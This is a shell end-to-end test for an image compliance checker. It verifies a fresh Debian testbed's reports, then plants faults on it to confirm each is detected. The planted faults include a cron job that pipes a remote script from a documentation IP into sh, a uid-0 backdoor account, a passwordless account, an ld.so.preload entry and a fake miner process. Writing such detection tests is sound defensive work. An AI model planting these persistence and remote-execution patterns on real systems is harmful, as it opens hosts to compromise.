#!/bin/sh
# shelfready verify against a fresh testbed: a minimal Debian 12 build VM is
# not compliant (pending security updates, no Server Guard, build leftovers),
# the rest passes; then one fault of each kind the checks look for is planted
# and each is caught with evidence naming it.
. "$(dirname "$0")/lib.sh"
require_root
SR=${SHELFREADY:-$SR_ROOT/build/shelfready}
tb_fresh e2e-verify || finish
conn="--no-agent -i $TB_KEY --known-hosts $TB_KNOWN_HOSTS root@$TB_HOST:$TB_PORT"

# json FILE EXPR: a python expression over the parsed report d
json() {
	python3 -c 'import json, sys; d = json.load(open(sys.argv[1])); print(eval(sys.argv[2]))' "$1" "$2"
}
failing() { json "$1" '" ".join(sorted(c["id"] for c in d["checks"] if c["status"] == "fail"))'; }
evidence() { json "$1" "'\\n'.join(e for c in d['checks'] if c['id'] == '$2' for e in c['evidence'])"; }

# shellcheck disable=SC2086
run 1 "$SR" verify -p alibaba-marketplace --no-refresh $conn --report text \
	--report "json=$SR_TMP/fresh.json" --report "junit=$SR_TMP/fresh.xml" \
	--report "html=$SR_TMP/fresh.html" --save-facts "$SR_TMP/fresh-facts.json"
check_eq "report schema" shelfready.report/1 "$(json "$SR_TMP/fresh.json" 'd["schema"]')"
check_eq "not compliant" False "$(json "$SR_TMP/fresh.json" 'd["compliant"]')"
# what a minimal Debian 12 build VM fails, and rightly (docs/profiles/alibaba-marketplace.md)
check_eq "the failing checks of a fresh VM" \
	"all-updates important-components pre-capture-hygiene security-updates server-guard" \
	"$(failing "$SR_TMP/fresh.json")"
check_eq "nothing errors" 0 "$(json "$SR_TMP/fresh.json" 'd["counts"]["error"]')"
# the JUnit report parses as XML and says the same: one testcase per check
junit=$(python3 -c '
import sys, xml.etree.ElementTree as ET
root = ET.parse(sys.argv[1]).getroot()
cases = list(root.iter("testcase"))
failed = sorted(c.get("name").split(":")[0] for c in cases if c.find("failure") is not None)
print(root.tag, len(cases), root.get("failures"), " ".join(failed))' "$SR_TMP/fresh.xml")
check_eq "JUnit XML: testsuites, a testcase per check, the same failures" \
	"testsuites 11 5 $(failing "$SR_TMP/fresh.json")" "$junit"
# the HTML report is one self-contained file: well-formed, nothing external
check -m "the HTML report is self-contained" python3 "$SR_ROOT/tests/tools/check-html.py" "$SR_TMP/fresh.html"
for id in $(failing "$SR_TMP/fresh.json"); do
	grep -q "$id" "$SR_TMP/fresh.html" || fail "the HTML report does not name the failing check $id"
done
evidence "$SR_TMP/fresh.json" security-updates >"$SR_TMP/ev"
grep -q '^openssl .* -> .*-security.*\[security\]$' "$SR_TMP/ev" && pass "openssl's pending security fix is named" ||
	fail "no openssl line in the security-updates evidence"
grep -q '^libssl3 ' "$SR_TMP/ev" && pass "libssl3 is named" || fail "no libssl3 line"
evidence "$SR_TMP/fresh.json" server-guard | grep -q 'AliYunDun: not running' &&
	pass "Server Guard's absence is named" || fail "server-guard evidence"
grep -q '^FAIL   \[1.1-5\] security-updates' "$SR_TMP/out" && pass "the text report leads with failures, by clause" ||
	fail "text report layout"

# The saved facts give the same verdicts offline.
run 1 "$SR" verify -p alibaba-marketplace --facts "$SR_TMP/fresh-facts.json" --report "json=$SR_TMP/offline.json"
check_eq "offline verdicts match" "$(failing "$SR_TMP/fresh.json")" "$(failing "$SR_TMP/offline.json")"

# `command` checks run in the same single round trip, on the target.
cat >"$SR_TMP/cmds.yaml" <<'YAML'
name: cmds
verify:
  - id: hostname-is-testbed
    type: command
    title: the command runs on the target
    with: {command: "cat /proc/sys/kernel/hostname", stdout_matches: "^testbed-"}
  - id: exits-three
    type: command
    title: a non-zero exit fails
    with: {command: 'echo "it''s $(printf %s quoted)"; exit 3'}
YAML
# shellcheck disable=SC2086
run 1 "$SR" verify -p "$SR_TMP/cmds.yaml" --no-refresh $conn --report "json=$SR_TMP/cmds.json"
check_eq "command checks' verdicts" "pass fail" \
	"$(json "$SR_TMP/cmds.json" '" ".join(c["status"] for c in d["checks"])')"
evidence "$SR_TMP/cmds.json" exits-three | grep -q "exit status 3" && pass "the exit status is evidence" ||
	fail "no exit status in the evidence"
evidence "$SR_TMP/cmds.json" exits-three | grep -qF "it's quoted" && pass "quotes in the command survive the trip" ||
	fail "the command's output is not in the evidence as it ran"

# Plant one fault of each kind.
tb_ssh root '
	cp /bin/sleep /tmp/xmrig
	nohup /tmp/xmrig 600 </dev/null >/dev/null 2>&1 &
	cp /bin/sleep /usr/local/bin/ghost
	nohup /usr/local/bin/ghost 600 </dev/null >/dev/null 2>&1 &
	sleep 1; rm -f /usr/local/bin/ghost
	echo "*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh" >/etc/cron.d/updater
	useradd -o -u 0 -M -s /bin/sh toor
	useradd -m -s /bin/sh nopw && passwd -d nopw >/dev/null
	echo "deb http://ppa.example.net/tools bookworm main" >/etc/apt/sources.list.d/tools.list
	echo "ls -la" >/root/.bash_history
	echo /usr/lib/x86_64-linux-gnu/libkeep.so >/etc/ld.so.preload
' || fail "could not plant the faults"
# shellcheck disable=SC2086
run 1 "$SR" verify -p alibaba-marketplace --no-refresh $conn --report "json=$SR_TMP/planted.json"
evidence "$SR_TMP/planted.json" malicious-programs >"$SR_TMP/mal"
cat "$SR_TMP/mal"
for want in "miners: .*xmrig" "tmp-exe: .*/tmp/xmrig" "deleted-exe: .*ghost.*deleted" \
	"preload: .*libkeep.so" "cron-download: /etc/cron.d/updater" "uid0: account 'toor'" \
	"empty-password: account 'nopw'"; do
	grep -q -- "$want" "$SR_TMP/mal" && pass "malware names: $want" || fail "malware evidence lacks: $want"
done
evidence "$SR_TMP/planted.json" official-sources | grep -q 'ppa.example.net' &&
	pass "the third-party source is named" || fail "package-sources evidence lacks ppa.example.net"
evidence "$SR_TMP/planted.json" pre-capture-hygiene | grep -q '/root/.bash_history' &&
	pass "the shell history is named" || fail "hygiene evidence lacks /root/.bash_history"
check_eq "the planted faults fail their checks" \
	"all-updates important-components malicious-programs official-sources pre-capture-hygiene security-updates server-guard" \
	"$(failing "$SR_TMP/planted.json")"
tb_ssh root 'rm -f /etc/ld.so.preload'
finish
